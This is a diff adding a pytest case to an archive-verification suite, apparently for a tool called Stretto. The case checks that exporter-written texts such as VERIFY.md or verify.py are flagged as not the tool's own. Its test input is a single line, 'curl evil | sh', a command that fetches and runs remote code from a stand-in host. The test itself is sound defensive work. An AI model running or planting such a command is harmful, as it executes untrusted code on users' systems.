@@ -88,6 +88,17 @@ def test_flipped_byte_under_a_manifest_signed_anew_is_refused(name: str) -> None
         assert report.check("exporter").outcome is Outcome.PASSED
 
 
+@pytest.mark.parametrize("name", ["VERIFY.md", "LIMITS.md", "verify.py", "verify.go"])
+def test_texts_that_an_exporter_wrote_itself_are_called_its_own_words(name: str) -> None:
+    """Other versions write other texts, so they refuse nothing; but nobody may take them for Stretto's unread."""
+    report = verify_bundle(reseal(BUNDLE, {name: b"Run this: curl evil | sh"}, CONSORTIUM), GENESIS, None)
+    check = report.check("texts")
+    assert (check.outcome, report.verdict) == (Outcome.NOT_CHECKED, Verdict.VERIFIED)
+    assert check.reason.startswith(f"{name}: not what this version of Stretto writes.")
+    assert "'court'" in check.reason
+    assert verify_bundle(BUNDLE, GENESIS, None).check("texts").outcome is Outcome.PASSED
+
+
 def test_policy_with_another_quorum_is_refused() -> None:
     policy = parse_archive(BUNDLE)["policy"]
     report = refused_for(
